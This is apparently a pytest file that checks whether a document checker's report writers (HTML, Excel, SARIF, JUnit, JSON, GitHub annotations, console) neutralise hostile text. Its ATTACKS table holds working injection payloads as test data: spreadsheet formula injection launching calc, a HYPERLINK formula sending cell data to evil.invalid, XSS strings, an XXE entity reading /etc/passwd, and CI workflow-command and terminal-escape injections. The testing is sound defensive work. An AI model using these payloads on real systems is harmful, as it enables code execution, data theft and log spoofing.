"""Whatever a draft, its name or a finding says, in no report is it more than text.

Every attack stands in every text that reaches a report, and every report is read again by a parser
of its format. The last tests run the command on a draft that holds all of them.
"""

import io
import json
import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import lxml.html
import openpyxl
import pytest
from jsonschema import Draft7Validator
from lxml import etree
from real_runs import OPENING
from rich.console import Console
from runner import commands

from checker.audit import Audit, Coverage, LedgerRow
from checker.document import DocumentBuilder, Origin, Piece
from checker.dossier import Refusal
from checker.finding import Evidence, Finding
from checker.normalisation import normal
from checker.reporting import write_reports
from checker.reporting.console import print_summary
from checker.reporting.github import annotations
from checker.reporting.words import printable
from checker.span import Span

SCHEMAS = Path(__file__).resolve().parents[1] / "data" / "schemas"
HARMLESS = "lành tính"
ATTACKS = {
    "formula": "=cmd|'/c calc'!A1",
    "formula with a sign": "+1+cmd|'/c calc'!A1",
    "formula of old": "@SUM(1+1)*cmd|'/c calc'!A1",
    "difference": "-2+3+cmd|'/c calc'!A1",
    "remote formula": '=HYPERLINK("http://evil.invalid/?x="&A1,"xem")',
    "script": "<script>alert(1)</script>",
    "end of script": "</script></style></textarea><script>alert(1)</script><!--",
    "image": '"><img src=x onerror=alert(1)>',
    "attribute": "' onmouseover='alert(1)' x='",
    "address": "javascript:alert(1)",
    "template": "{{ 7*7 }}{% include 'x' %}{0}{{0}}",
    "console markup": "[bold red]x[/nosuch][link=http://evil.invalid]y[/link]",
    "markdown": "[bấm vào đây](http://evil.invalid) ![x](http://evil.invalid/x.png) \\](3) [a](1)",
    "end of data": "]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;&#x1b;",
    "runner": "::error file=a.txt,line=1::giả",
    "runner of old": "##[add-path]/tmp ##[error]giả",
    "runner after a line": "x\r\n::add-mask::5%0A::error::giả%0D%2C%3A",
    "property": "a,line=7::giả:b%",
    "terminal": "\x1b[2J\x1b]0;giả\x07",
    "terminal of old": "\x9b31m\x90\x9c\x08\x08",
    "direction": "\u202egiả\u2067\u200f\u061c\u200e\u2069\u202c",
    "nothing in XML": "a\x00b\x0bc\ufffe\uffff",
    "surrogates": "a\udc80b",
    "line ends": "a\u2028::error::b\u2029c\x85::error::d",
    "long word": "ế" * 100_000,
}
CONTROLS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe]"
)


def attacked(attack: str) -> Audit:
    """Return an audit in which every text is the attack."""
    path = f"hồ sơ/{attack[:100].replace('/', '∕')}.txt"
    name, attack = attack, attack.encode(errors="ignore").decode()  # only names are no Unicode
    builder = DocumentBuilder(path, "txt", "0" * 64)
    builder.paragraph([Piece(f"{attack} a", Origin(line=1))])
    builder.paragraph([Piece(attack, Origin(line=2))])
    builder.notice(attack)
    document = builder.build()
    first = Span(path, 0, document.blocks[0].end)
    second = Span(path, document.blocks[1].start, document.blocks[1].end)
    evidence = (Evidence("claim", first, attack), Evidence("counter", second, attack))
    texts: dict[str, Any] = dict.fromkeys(
        ("message", "advice", "section", "subject", "expected", "difference"), attack
    )
    findings = tuple(
        Finding(rule, "attack", "table", severity, evidence=evidence, **texts)
        for rule, severity in (("T01", "error"), ("T02", "warning"), ("W07", "info"))
    )  # type: ignore[arg-type]
    row = LedgerRow(attack, attack, attack, attack, attack, "unchecked", attack, first, second)
    return Audit(
        documents=(document,),
        communes={path: attack},
        findings=findings,
        refusals=(Refusal(name, attack, attack),),
        coverage={path: Coverage(numbers=1, unchecked=1)},
        sections={path: [(0, attack)]},
        ledger={path: [row]},
        files={path: path},
    )


@pytest.fixture(params=ATTACKS.values(), ids=list(ATTACKS))
def attack(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def written(attack: str, tmp_path: Path) -> Callable[[str], Path]:
    def write(name: str) -> Path:
        (path,) = write_reports(attacked(attack), {}, [name], tmp_path)
        return path

    return write


def shown(attack: str) -> str:
    """Return an attack as a report quotes it."""
    return printable(normal(attack))


def assert_plain(text: str) -> None:
    assert not CONTROLS.search(text), CONTROLS.findall(text)[:3]


def strings(data: Any) -> Iterator[str]:
    if isinstance(data, dict):
        yield from data
        data = list(data.values())
    if isinstance(data, list):
        for each in data:
            yield from strings(each)
    elif isinstance(data, str):
        yield data


def test_json(attack: str, written: Callable[[str], Path]) -> None:
    report = json.loads(written("json").read_text("utf-8"))
    for text in strings(report):
        assert_plain(text)
    for finding in report["findings"]:
        assert [each["quote"] for each in finding["locations"]][1] == shown(attack)


def test_sarif(attack: str, written: Callable[[str], Path]) -> None:
    log = json.loads(written("sarif").read_text("utf-8"))
    schema = json.loads((SCHEMAS / "sarif-schema-2.1.0.json").read_text("utf-8"))
    assert list(Draft7Validator(schema).iter_errors(log)) == []
    for text in strings({**log["runs"][0], "newlineSequences": []}):
        assert_plain(text)
    (run,) = log["runs"]
    for result in run["results"]:
        text = result["message"]["text"]
        links = re.findall(r"(?<!\\)\[((?:[^\[\]\\]|\\.)+)\]\(([^)]*)\)", text)
        assert [target for _, target in links] == ["1"]
        assert re.search(r"\]\(", text.replace(f"[{links[0][0]}](1)", "")) is None
        assert not re.search(r"\{", text.replace("{{", "")), "a placeholder"
        for location in (*result["locations"], *result["relatedLocations"]):
            uri = location["physicalLocation"]["artifactLocation"]["uri"]
            assert re.fullmatch(r"[A-Za-z0-9%./_~-]+", uri)


def test_junit(attack: str, written: Callable[[str], Path]) -> None:
    path = written("junit")
    tree = etree.parse(path, etree.XMLParser(resolve_entities=False, huge_tree=True))
    etree.XMLSchema(etree.parse(SCHEMAS / "junit-10.xsd")).assertValid(tree)
    assert tree.docinfo.internalDTD is None
    assert not list(tree.iter(etree.Entity, etree.Comment, etree.PI))
    for element in tree.iter():
        for text in (element.text or "", *element.attrib.values()):
            assert_plain(text)
    first = " ".join((tree.findtext(".//failure") or "").split())
    assert shown(attack)[:900] in first
    assert [len(suite) for suite in tree.getroot()] == [4, 1]


def test_github(attack: str) -> None:
    lines = list(annotations(attacked(attack), {}))
    found = commands("\n".join(lines))
    assert [each.name for each in found] == ["error", "error", "warning", "notice"]
    assert all("\n" not in line and "\r" not in line for line in lines)
    keys = ["file", "line", "endLine", "col", "endColumn", "title"]
    assert [list(each.properties) for each in found] == [["file", "title"], keys, keys, keys]
    for line, each in zip(lines, found, strict=True):
        assert_plain(line)
        line.encode()
        assert "".join(shown(attack)[:90].split()) in "".join(each.data.split())
    assert {each.properties["line"] for each in found[1:]} == {"1"}


@pytest.mark.parametrize("terminal", [False, True])
def test_console(attack: str, terminal: bool) -> None:
    out = io.StringIO()
    print_summary(attacked(attack), {}, Console(file=out, width=100, force_terminal=terminal))
    printed = out.getvalue()
    colours = re.compile("\x1b\\[[0-9;]*m")
    assert (colours.search(printed) is not None) == terminal
    assert_plain(colours.sub("", printed))
    printed.encode()
    harmless = io.StringIO()
    print_summary(
        attacked(HARMLESS), {}, Console(file=harmless, width=100, force_terminal=terminal)
    )
    styles = {*colours.findall(harmless.getvalue())}
    assert {*colours.findall(printed)} <= styles, "markup of the draft's own"


def test_excel(attack: str, written: Callable[[str], Path]) -> None:
    path = written("xlsx")
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            assert "externalLink" not in name
            if name.endswith(".rels"):
                assert b'TargetMode="External"' not in package.read(name)
    workbook = openpyxl.load_workbook(path)
    held = 0
    for cell in (cell for sheet in workbook for row in sheet for cell in row):
        # Formulas of the report's own hold nothing of a draft.
        if cell.data_type == "f":
            assert not re.search(r"cmd|HYPERLINK|evil|2\+3", str(cell.value))
        if isinstance(cell.value, str) and cell.data_type != "f":
            assert_plain(cell.value)
            assert len(cell.value) <= 32_767
            if cell.value.startswith(("=", "+", "-", "@")):
                assert cell.quotePrefix
            held += shown(attack)[:40] in normal(cell.value)
    assert held > 5


def _elements(path: Path) -> tuple[set[str], set[str], set[str], lxml.html.HtmlElement]:
    """Return a page's elements, the names of its attributes and its scripts, and the page."""
    page = lxml.html.parse(str(path), lxml.html.HTMLParser(encoding="utf-8", huge_tree=True))
    root = page.getroot()
    elements = [each for each in root.iter() if isinstance(each.tag, str)]
    scripts = {
        each.text or "" for each in elements if each.tag == "script" and not each.get("type")
    }
    return (
        {each.tag for each in elements},
        {name for each in elements for name in each.attrib},
        scripts,
        root,
    )


def test_html(attack: str, written: Callable[[str], Path], tmp_path: Path) -> None:
    (tmp_path / "harmless").mkdir()
    (usual,) = write_reports(attacked(HARMLESS), {}, ["html"], tmp_path / "harmless")
    tags, attributes, scripts, _ = _elements(usual)
    path = written("html")
    found_tags, found_attributes, found_scripts, page = _elements(path)
    assert found_tags <= tags | {"details", "summary"}
    assert found_attributes <= attributes
    assert found_scripts == scripts
    for name in page.xpath("//@href | //@src | //@action"):
        assert name.startswith("#"), name
    assert_plain(path.read_text("utf-8"))
    assert shown(attack)[:60] in normal(page.text_content())


# --- the command itself ---------------------------------------------------------------------------

# A reader takes a text with many controls for no text, so these come a few at a time.
IN_DRAFTS = [each for name, each in ATTACKS.items() if name not in ("surrogates", "nothing in XML")]
FORMATS = "html,xlsx,json,sarif,junit,github,console"


def draft_of(attack: str) -> str:
    return OPENING + (
        f"1. Chỉ tiêu {attack} kinh tế (04 chỉ tiêu)\n"
        f"(1) Thu ngân sách {attack} tăng bình quân hằng năm 5%.\n"
        f"(2) Tỷ lệ che phủ rừng đến năm 2030 đạt 40% trở lên, {attack}.\n"
        f"(3) Tổng đàn gia súc {attack} đến năm 2030 đạt 9.500 con.\n"
        f"Xã {attack} có có {attack} trường học.\n"
    )


@pytest.fixture(scope="module")
def run(installed: Any, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str, list[str]]:
    """The reports on drafts of all attacks, in a build of GitHub's, and what was printed."""
    folder = tmp_path_factory.mktemp("attacks")
    names = []
    for number, attack in enumerate(IN_DRAFTS):
        name = re.sub(r"[/\x00]", "", attack)[:40]
        names.append(f"{number:02}{name}.txt")
        (folder / "hồ sơ" / names[-1]).parent.mkdir(exist_ok=True)
        text = draft_of(attack)
        padding = "Xã giữ vững kết quả đã đạt được.\n" * (700 if CONTROLS.search(attack) else 1)
        (folder / "hồ sơ" / names[-1]).write_text(text + padding, encoding="utf-8", newline="")
    (folder / "hồ sơ" / "::error::giả.docx").write_bytes(b"")
    done = installed("check", "hồ sơ", "--format", FORMATS, "--out", "out", cwd=folder)
    assert done.returncode == 2
    assert done.stderr == ""
    return folder / "out", done.stdout, names


def test_every_attack_was_read_and_found_to_be_wrong(run: tuple[Path, str, list[str]]) -> None:
    folder, _, names = run
    report = json.loads((folder / "findings.json").read_text("utf-8"))
    assert len(report["documents"]) == len(names)
    found = {each["document"] for each in report["findings"]}
    assert found == {each["path"] for each in report["documents"]}
    for text in strings(report):
        assert_plain(text)


def test_the_runner_obeys_annotations_only(run: tuple[Path, str, list[str]]) -> None:
    folder, printed, names = run
    report = json.loads((folder / "findings.json").read_text("utf-8"))
    found = commands(printed)
    assert {each.name for each in found} == {"error", "warning", "notice"}
    assert len(found) == len(report["findings"]) + 1
    assert not [each for each in found if each.data.startswith("giả")]
    assert {each.properties["file"] for each in found} >= {"hồ sơ/::error::giả.docx"}
    lines = printed.split("\n")
    said = [line for line in lines if not line.startswith("::")]
    assert len(said) > len(names)


def test_without_annotations_a_build_still_obeys_no_draft(
    installed: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    name = f"{ATTACKS['runner of old'].replace('/', '')}.txt"
    (tmp_path / name).write_text(draft_of("xã"), encoding="utf-8")
    (tmp_path / "::error::giả.docx").write_bytes(b"")
    done = installed("check", ".", "--format", "console", cwd=tmp_path)
    assert "##[error]" in done.stdout
    assert commands(done.stdout) == []


def test_reports_of_the_command_hold_text_only(run: tuple[Path, str, list[str]]) -> None:
    folder, _, _ = run
    _, _, scripts, page = _elements(folder / "audit.html")
    assert not [each for each in scripts if "alert(1)" in each]
    assert not page.xpath("//img | //@onerror | //@onmouseover")
    assert not [name for name in page.xpath("//@href") if not name.startswith("#")]
    workbook = openpyxl.load_workbook(folder / "audit.xlsx")
    values = [str(c.value) for s in workbook for row in s for c in row if c.data_type == "f"]
    assert not [value for value in values if re.search("cmd|HYPERLINK|SUM", value)]
    etree.XMLSchema(etree.parse(SCHEMAS / "junit-10.xsd")).assertValid(
        etree.parse(folder / "audit.junit.xml", etree.XMLParser(huge_tree=True))
    )
